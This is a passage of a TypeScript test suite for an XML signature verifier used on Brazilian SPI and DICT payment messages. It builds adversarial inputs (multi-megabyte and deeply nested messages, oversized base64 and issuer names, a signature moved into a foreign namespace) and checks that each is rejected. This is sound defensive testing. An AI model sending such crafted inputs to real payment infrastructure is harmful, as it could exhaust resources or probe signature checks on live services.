  check(t, 'LF to CRLF throughout', spi.replace(/\n/g, '\r\n'), 'VALID')
  check(t, 'LF to CR throughout', spi.replace(/\n/g, '\r'), 'VALID')
  check(t, 'DICT LF to CRLF', dict.replace(/\n/g, '\r\n'), 'VALID')
  check(t, 'white space inside tags', edit(spi, '<IntrBkSttlmAmt Ccy="BRL">', '<IntrBkSttlmAmt\n\tCcy = \'BRL\' >'), 'VALID')
  check(t, 'a character reference for an ordinary character', edit(spi, 'Aluguel de março', 'Aluguel de mar&#xE7;o'), 'VALID')
  check(t, 'CDATA for the same text', edit(spi, 'Aluguel de março', '<![CDATA[Aluguel de março]]>'), 'VALID')
  check(t, 'white space after the root', spi + '\n\n', 'VALID')
  // These change the content.
  const doc = (xml: string, name: string): void => {
    t.same(refs(check(t, name, xml, 'DIGEST_MISMATCH')), [['KeyInfo', true], ['AppHdr', true], ['Document', false]], `${name}: Document`)
  }
  doc(edit(spi, 'Aluguel de março', 'Aluguel de março&#13;'), 'a CR from a character reference')
  doc(edit(spi, 'Aluguel de março', 'Aluguel\u00a0de março'), 'a no-break space for a space')
  doc(edit(spi, 'Aluguel de março', 'Aluguel de marc\u0327o'), 'NFD for NFC')
  doc(edit(spi, 'Aluguel de março', 'Aluguel de março '), 'a trailing space')
  doc(edit(spi, '<IntrBkSttlmAmt Ccy="BRL">', '<IntrBkSttlmAmt Ccy="BRL ">'), 'a space in an attribute value')
  doc(edit(spi, '<IntrBkSttlmAmt Ccy="BRL">', '<IntrBkSttlmAmt Ccy="BRL" Ccy2="">'), 'an attribute added')
})

t.test('size and depth limits', async (t) => {
  const big = edit(spi, '</FIToFICstmrCdtTrf>', `<Pad>${'x'.repeat(5 * 1024 * 1024)}</Pad></FIToFICstmrCdtTrf>`)
  const started = cpuMs()
  check(t, 'a 5 MiB message', big, 'XML_LIMIT_EXCEEDED')
  check(t, 'a 5 MiB message as bytes', Buffer.from(big, 'utf8'), 'XML_LIMIT_EXCEEDED')
  t.ok(cpuMs() - started < 1000, 'refused without parsing it')
  check(t, 'nested 100 deep inside Document', edit(spi, '<FIToFICstmrCdtTrf>', '<FIToFICstmrCdtTrf>' + '<a>'.repeat(100) + '</a>'.repeat(100)), 'XML_LIMIT_EXCEEDED')
  check(t, 'nested 100 000 deep', edit(spi, '<FIToFICstmrCdtTrf>', '<FIToFICstmrCdtTrf>' + '<a>'.repeat(100_000) + '</a>'.repeat(100_000)), 'XML_LIMIT_EXCEEDED')
  check(t, '100 001 elements', edit(spi, '<FIToFICstmrCdtTrf>', '<FIToFICstmrCdtTrf>' + '<a/>'.repeat(100_001)), 'XML_LIMIT_EXCEEDED')
  check(t, '65 attributes on one element', edit(spi, '<FIToFICstmrCdtTrf>', `<FIToFICstmrCdtTrf ${Array.from({ length: 65 }, (_, i) => `a${i}="1"`).join(' ')}>`), 'XML_LIMIT_EXCEEDED')
  check(t, 'a message within a custom limit', spi, 'XML_LIMIT_EXCEEDED', { limits: { maxBytes: 2048, maxDepth: 64, maxAttributes: 64, maxElements: 100_000 } })
})

t.test('malformed SignatureValue, DigestValue and serial number', async (t) => {
  const value = /<ds:SignatureValue>([^<]+)</.exec(spi)?.[1] ?? ''
  const huge = 'QUFB'.repeat(750_000) // 3 MB of valid base64
  const started = cpuMs()
  const h = check(t, 'a 3 MB base64 SignatureValue', edit(spi, value, huge), 'SIGNATURE_INVALID')
  t.ok(cpuMs() - started < 2000, 'answered quickly')
  t.same(refs(h), [['KeyInfo', true], ['AppHdr', true], ['Document', true]])
  check(t, 'a 3-byte SignatureValue', edit(spi, value, 'AAAA'), 'SIGNATURE_INVALID')
  check(t, 'a SignatureValue one byte longer than the modulus', edit(spi, value, Buffer.concat([Buffer.from(value, 'base64'), Buffer.from([0])]).toString('base64')), 'SIGNATURE_INVALID')
  check(t, 'an empty SignatureValue', edit(spi, value, ''), 'PROFILE_VIOLATION')
  check(t, 'a SignatureValue that is not base64', edit(spi, value, value.slice(0, -4) + '!!!!'), 'PROFILE_VIOLATION')
  check(t, 'a SignatureValue with an element inside', edit(spi, value, value + '<x/>'), 'PROFILE_VIOLATION')
  const digest = /<ds:DigestValue>([^<]+)</.exec(spi)?.[1] ?? ''
  check(t, 'a 33-byte DigestValue', spi.replace(digest, Buffer.alloc(33, 1).toString('base64')), 'PROFILE_VIOLATION')
  check(t, 'a 20-byte (SHA-1 sized) DigestValue', spi.replace(digest, Buffer.alloc(20, 1).toString('base64')), 'PROFILE_VIOLATION')
  check(t, 'a huge DigestValue', spi.replace(digest, 'QUFB'.repeat(100_000)), 'PROFILE_VIOLATION')
  const serial = participant.certificate.serialDecimal
  for (const bad of ['0x' + BigInt(serial).toString(16), '-' + serial, '1e5', '', ' ', serial + '.0', '１２３', '9'.repeat(201), serial.slice(0, 5) + ' ' + serial.slice(5)]) {
    const r = check(t, `serial ${JSON.stringify(bad.slice(0, 24))}`, edit(spi, `<ds:X509SerialNumber>${serial}<`, `<ds:X509SerialNumber>${bad}<`), 'PROFILE_VIOLATION')
    t.match(r.message, /X509SerialNumber/)
  }
  check(t, 'a Sgntr in another namespace holding the signature', edit(edit(spi, '<Sgntr>', '<Sgntr/><x:Sgntr xmlns:x="urn:x">'), '</Sgntr>', '</x:Sgntr>'), 'PROFILE_VIOLATION')
  check(t, 'an empty X509IssuerName', spi.replace(/<ds:X509IssuerName>[^<]*</, '<ds:X509IssuerName><'), 'PROFILE_VIOLATION')
  check(t, 'an X509IssuerName that is not a DN', spi.replace(/<ds:X509IssuerName>[^<]*</, '<ds:X509IssuerName>=,=<'), 'PROFILE_VIOLATION')
})

t.test('an oversized X509IssuerName costs neither time nor retained memory', async (t) => {
  // The issuer text is attacker-controlled and reaches the DN parser and the trust store's issuer cache before any
  // signature is checked. A message full of RDNs must cost about what any message of its size costs to parse (tens
  // of milliseconds), and the cache (256 entries) must not keep megabyte strings alive.
  const plain = cpuMs()
  verifyXml(edit(spi, 'Aluguel de março', 'x'.repeat(3_500_000)), { trustStore: trust })
  const baseline = cpuMs() - plain
  const manyRdns = spi.replace(/<ds:X509IssuerName>[^<]*</, `<ds:X509IssuerName>${'CN=a,'.repeat(700_000)}CN=a<`)
  const started = cpuMs()
  const r = verifyXml(manyRdns, { trustStore: trust })
  const ms = cpuMs() - started
  t.not(r.code, 'VALID')
  t.ok(ms < Math.max(500, 10 * baseline), `a 3.5 MB X509IssuerName answered in ${ms.toFixed(0)} CPU ms (a 3.5 MB Document: ${baseline.toFixed(0)} CPU ms)`)

  setFlagsFromString('--expose-gc')
  const gc = runInNewContext('gc') as () => void
  gc()
  const before = process.memoryUsage().heapUsed
  for (let i = 0; i < 20; i++) {
    verifyXml(spi.replace(/<ds:X509IssuerName>[^<]*</, `<ds:X509IssuerName>CN=${i}${'a'.repeat(1_000_000)}<`), { trustStore: trust })
  }
  gc()
  const grownMb = (process.memoryUsage().heapUsed - before) / 1e6
  t.ok(grownMb < 15, `heap grew ${grownMb.toFixed(0)} MB after 20 messages with distinct 1 MB issuer names`)
})

t.test('a placeholder <Signature></Signature> is not a signature', async (t) => {
  const unsigned = createEntryRequest().xml.replace('<CreateEntryRequest>\n', '<CreateEntryRequest>\n  <Signature></Signature>\n')
  const r = check(t, 'DICT placeholder only', unsigned, 'SIGNATURE_MISSING')
  t.match(r.message, /<Signature> that is not an XMLDSig signature/)
  const signatureOnly = section(dict, SIGNATURE_RE)
  const unqualified = dict.replace(signatureOnly, signatureOnly.replace(/<ds:/g, '<').replace(/<\/ds:/g, '</').replace(` xmlns:ds="${DS}"`, ''))
  check(t, 'a full signature, but in no namespace', unqualified, 'SIGNATURE_MISSING')
  check(t, 'an empty ds:Signature', dict.replace(signatureOnly, `<ds:Signature xmlns:ds="${DS}"></ds:Signature>`), 'PROFILE_VIOLATION')
  check(t, 'SPI with the signature removed', spi.replace(signature, ''), 'SIGNATURE_MISSING')
})

t.test('what the SPI profile leaves unsigned: the Envelope element itself (documented limitation)', async (t) => {
  // Reference 2 is the AppHdr and Reference 3 the Document (docs/bacen.md §3.1): the Envelope start tag, and
  // comments or PIs directly in it, are covered by no digest. Text or elements there are refused by the layout rule;
  // attributes and PIs are not, and carry nothing a consumer of AppHdr/Document reads.
  check(t, 'an attribute on Envelope', edit(spi, `<Envelope xmlns="${ENV_NS}">`, `<Envelope xmlns="${ENV_NS}" note="unsigned">`), 'VALID')
  check(t, 'a PI between AppHdr and Document', edit(spi, '</AppHdr>', '</AppHdr><?unsigned x?>'), 'VALID')
  check(t, 'text between AppHdr and Document', edit(spi, '</AppHdr>', '</AppHdr>unsigned'), 'PROFILE_VIOLATION')
  check(t, 'an element between AppHdr and Document', edit(spi, '</AppHdr>', '</AppHdr><Note>unsigned</Note>'), 'PROFILE_VIOLATION')
  // DICT signs the whole document: even a PI after the root is signed content (comments are not).
  t.same(refs(check(t, 'DICT: a PI after the root', dict + '<?unsigned x?>', 'DIGEST_MISMATCH')), [['KeyInfo', true], ['document', false]])
  check(t, 'DICT: a comment after the root', dict + '<!-- c -->', 'VALID')
  t.same(refs(check(t, 'DICT: an attribute on the root', edit(dict, '<CreateEntryRequest>', '<CreateEntryRequest note="x">'), 'DIGEST_MISMATCH')), [['KeyInfo', true], ['document', false]])
})
